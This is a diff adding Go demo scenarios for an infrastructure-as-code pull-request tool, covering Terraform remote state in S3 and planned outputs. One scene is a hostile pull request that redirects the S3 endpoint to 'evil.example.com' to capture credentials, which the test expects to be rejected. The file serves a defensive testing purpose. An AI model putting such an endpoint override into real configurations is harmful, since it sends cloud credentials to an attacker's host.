@@ -1,0 +1,119 @@
+package demo
+
+import (
+	"fmt"
+
+	"github.com/lockstep-iac/lockstep/github/githubtest"
+)
+
+// inBucket is the backend of a project with its state in a bucket.
+func inBucket(bucket, key string) string {
+	return fmt.Sprintf(`terraform {
+  backend "s3" {
+    bucket       = %q
+    key          = "%s/terraform.tfstate"
+    region       = "eu-west-1"
+    use_lockfile = true
+
+    skip_credentials_validation = true # by AWS, which knows nothing of this demo
+    skip_requesting_account_id  = true
+  }
+}
+
+`, bucket, key)
+}
+
+// vpc has outputs, one of them sensitive.
+const vpc = `resource "terraform_data" "vpc" {
+  input = "10.20.0.0/16"
+}
+
+output "range" {
+  value = "10.20.0.0/16"
+}
+
+output "id" {
+  value = terraform_data.vpc.id
+}
+
+output "password" {
+  value     = "correct-horse"
+  sensitive = true
+}
+`
+
+// reads reads the outputs of another project's state.
+func reads(bucket, more string) string {
+	return fmt.Sprintf(`data "terraform_remote_state" "vpc" {
+  backend = "s3"
+  config = {
+    bucket = %q
+    key    = "vpc/terraform.tfstate"
+    region = "eu-west-1"
+
+    skip_credentials_validation = true
+    skip_requesting_account_id  = true
+%s  }
+}
+
+resource "terraform_data" "shop" {
+  input = "shop in ${data.terraform_remote_state.vpc.outputs.range}, ${data.terraform_remote_state.vpc.outputs.password}"
+}
+`, bucket, more)
+}
+
+const (
+	remoteStates  = "acme-states"
+	plannedStates = "acme-planned-states"
+)
+
+// remoteState is about states in S3, which other projects read.
+var remoteState = Story{
+	Name:   "remote-state",
+	Shows:  "A project reads the outputs of another one's state in S3, with the credentials of its own providers; what is sensitive there is shown nowhere.",
+	bucket: remoteStates,
+	scenes: []scene{
+		{title: "main has a network, and a shop that is empty", do: by(func(r *githubtest.Repository) {
+			r.Push("carol", "main", "States in S3", githubtest.Files{
+				"lockstep.hcl": "project \"vpc\" {\n  dir = \"vpc\"\n}\n\nproject \"shop\" {\n  dir = \"shop\"\n}\n",
+				"vpc/main.tf":  inBucket(remoteStates, "vpc"), "shop/main.tf": inBucket(remoteStates, "shop"),
+			})
+		})},
+		opened("alice opens a pull request with the network", "alice", "vpc", "A network", githubtest.Files{"vpc/vpc.tf": vpc}, "check lockstep/vpc: success, 1 to add"),
+		commented("and applies it: its state is an object in a bucket", "alice", 1, "lockstep apply", "**Applied** `vpc`: 1 added"),
+		merged("and merges", "alice", 1),
+		without(opened("bob's shop reads the network's outputs", "bob", "shop", "A shop", githubtest.Files{"shop/shop.tf": reads(remoteStates, "")}, "check lockstep/shop: success, 1 to add"), "correct-horse"),
+		without(commented("he applies it", "bob", 2, "lockstep apply", "**Applied** `shop`: 1 added"), "correct-horse"),
+		merged("and merges", "bob", 2),
+		opened("another pull request would read the state elsewhere, with what is at hand", "bob", "elsewhere", "Elsewhere",
+			githubtest.Files{"shop/shop.tf": reads(remoteStates, "    endpoints = { s3 = \"https://evil.example.com\" }\n")},
+			"check lockstep/shop: failure", `"endpoints" is not`),
+	},
+}
+
+// plannedOutputs is about two projects in one pull request.
+var plannedOutputs = Story{
+	Name:   "planned-outputs",
+	Shows:  "One pull request changes two projects: the one is planned with the outputs that the other's plan will have, before anything is applied.",
+	bucket: plannedStates,
+	scenes: []scene{
+		{title: "main has a network, and a shop that comes after it", do: by(func(r *githubtest.Repository) {
+			r.Push("carol", "main", "States in S3", githubtest.Files{
+				"lockstep.hcl": "project \"vpc\" {\n  dir = \"vpc\"\n}\n\nproject \"shop\" {\n  dir        = \"shop\"\n  depends_on = [\"vpc\"]\n}\n",
+				"vpc/main.tf":  inBucket(plannedStates, "vpc"), "shop/main.tf": inBucket(plannedStates, "shop"),
+			})
+		})},
+		without(opened("alice adds both in one pull request: the state of the network does not exist yet, its plan does", "alice", "both", "A network and a shop",
+			githubtest.Files{"vpc/vpc.tf": vpc, "shop/shop.tf": reads(plannedStates, "")},
+			"check lockstep/vpc: success, 1 to add", "check lockstep/shop: success, 1 to add", "Planned with the outputs that the plan of `vpc` will have"), "correct-horse"),
+		without(commented("she applies both: the network first, and then the plan of the shop is made again, and is the same", "alice", 1, "lockstep apply",
+			"`vpc`: 1 added", "`shop`: 1 added"), "correct-horse"),
+		merged("and merges", "alice", 1),
+	},
+}
+
+// without adds texts that must not appear.
+func without(x scene, texts ...string) scene {
+	x.never = append(x.never, texts...)
+	return x
+}
